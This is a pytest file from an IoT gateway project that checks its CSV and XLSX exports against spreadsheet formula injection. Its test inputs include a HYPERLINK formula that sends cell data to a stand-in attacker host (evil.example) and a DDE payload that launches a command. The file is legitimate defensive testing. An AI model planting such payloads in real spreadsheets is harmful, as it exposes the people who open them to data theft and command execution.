"""CSV formula injection (issue 20): a text the project writes into a CSV or XLSX that a
spreadsheet would evaluate (``=HYPERLINK(...)`` sends the sheet's cells to another site when
clicked; ``=cmd|...`` is DDE). Each export is fed such texts the way they can reach it: an
organisation's name through ``iotgw registry import`` then ``export``; report cells; an
open-data station planted in the registry past every check (an older release's id), with a
negative reading that must stay a number."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from iotgw.api.report_schedule import due
from iotgw.api.reports import HEADINGS, ReportHeader, as_csv, as_xlsx
from iotgw.registry import Device, Sector, SubjectKind, make_engine, place, session_factory
from iotgw.rollup.catalogue import load_catalogue
from iotgw.rollup.periods import local_midnight_ms
from iotgw.rollup.store import write_aggregates
from iotgw.tsdb.schema import DEVICE_DAILY
from openpyxl import load_workbook

from tests.api import conftest as api
from tests.api.conftest import DAY, PROVINCE, Stack
from tests.faults import ledger
from tests.iotgw.test_cli import iotgw

pytestmark = [pytest.mark.integration, pytest.mark.faults]
stack = api.stack  # the API's fixture: a province's registry behind the real app

HOSTILE = ('=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1")


def _neutralised(cell: str) -> bool:
    return cell.startswith("'") and cell.lstrip("'")[:1] in "=+-@\t\r"


def test_organisation_names_in_registry_export(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'registry.sqlite'}"
    given = io.StringIO()
    writer = csv.writer(given)
    writer.writerow(["id", "name", "type", "sector", "ward_code", "since"])
    writer.writerows([f"evil-{n}", name, "farm", "agriculture", 70, "2025-03-01"]
                     for n, name in enumerate(HOSTILE))
    (tmp_path / "orgs.csv").write_text(given.getvalue(), encoding="utf-8")
    for args in (("init",), ("import", "organisations", str(tmp_path / "orgs.csv")),
                 ("export", "organisations", str(tmp_path / "out.csv"))):
        done = iotgw("registry", *args, "--url", url)
        assert done.returncode == 0, done.stderr
    names = [row["name"] for row in csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8")))]
    ok = len(names) == len(HOSTILE) and all(map(_neutralised, names))
    ledger.refused("CSV formula injection: organisation names in `iotgw registry export`", ok=ok,
                   verdict=f"{sum(map(_neutralised, names))} of {len(HOSTILE)} names quoted as text")


def test_report_cells_in_csv_and_xlsx() -> None:
    catalogue = load_catalogue()
    rows: list[list[str | int | float | None]] = [
        [f"x{n}", text, "2026-H1", -3.5, "%", 1, 2, text, None, None, None, text]
        for n, text in enumerate(HOSTILE)]
    header = ReportHeader(PROVINCE, "Đồng Tháp", due("Đồng Tháp", 2026, "H1"),
                          dt.datetime(2026, 7, 1, tzinfo=dt.UTC), filed_by=HOSTILE[0])
    table = list(csv.reader(io.StringIO(as_csv(rows, catalogue, header).decode("utf-8-sig"))))
    first = table.index(HEADINGS) + 1  # the figures follow the header rows and the headings
    cells = [table[first + n][col] for n in range(len(HOSTILE)) for col in (1, 7, 11)]
    numbers = [table[first + n][3] for n in range(len(HOSTILE))]
    book_bytes = as_xlsx(rows, catalogue, header)
    sheet = load_workbook(io.BytesIO(book_bytes))["Chỉ tiêu"]
    start = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == HEADINGS[0]) + 1
    texts = [sheet.cell(start + n, col + 1) for n in range(len(HOSTILE)) for col in (1, 7, 11)]
    with zipfile.ZipFile(io.BytesIO(book_bytes)) as book:
        formulas = sum(book.read(name).count(b"<f>") for name in book.namelist() if name.endswith(".xml"))
    csv_ok = all(map(_neutralised, cells)) and numbers == ["-3.5"] * len(HOSTILE)
    xlsx_ok = (formulas == 0
               and [c.value for c in texts] == [text for text in HOSTILE for _ in range(3)]
               and all(c.data_type == "s" for c in texts)
               and [sheet.cell(start + n, 4).value for n in range(len(HOSTILE))] == [-3.5] * len(HOSTILE))
    ledger.refused("CSV formula injection: report CSV and XLSX cells", ok=csv_ok and xlsx_ok,
                   verdict=f"CSV: {sum(map(_neutralised, cells))} of {len(cells)} quoted, numbers "
                           f"{'kept' if numbers == ['-3.5'] * len(HOSTILE) else 'CHANGED'}; XLSX: "
                           f"{formulas} formulas, texts stored as text")


def test_open_data_station_planted_past_every_check(stack: Stack) -> None:
    hostile = HOSTILE[0]
    at = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    with session_factory(make_engine(stack.registry_url))() as s, s.begin():
        s.add(Device(id=hostile, profile="air_quality", sector=Sector.ENVIRONMENT,
                     expected_interval_s=600, installed_on=at.date()))
        s.flush()
        place(s, SubjectKind.DEVICE, hostile, at=at, ward_code=stack.wards[2])
    write_aggregates(stack.influx, stack.database, DEVICE_DAILY,
                     {(hostile, local_midnight_ms(DAY)): {"temperature_mean": -3.5, "readings": 144,
                                                           "intervals": 144}})  # a full day: published
    response = stack.get(f"/v1/open/provinces/{PROVINCE}/environment", who=None,
                         month=DAY.strftime("%Y-%m"), format="csv")
    assert response.status_code == 200
    rows = {row["station"]: row for row in csv.DictReader(io.StringIO(response.text))}
    planted = rows.get("'" + hostile, {})
    ok = set(rows) == {"aq-1", "'" + hostile} and planted.get("temperature") == "-3.5"
    ledger.refused("CSV formula injection: open-data station id", ok=ok,
                   verdict=f"stations written {sorted(rows)}, negative reading "
                           f"{planted.get('temperature')!r} kept a number")
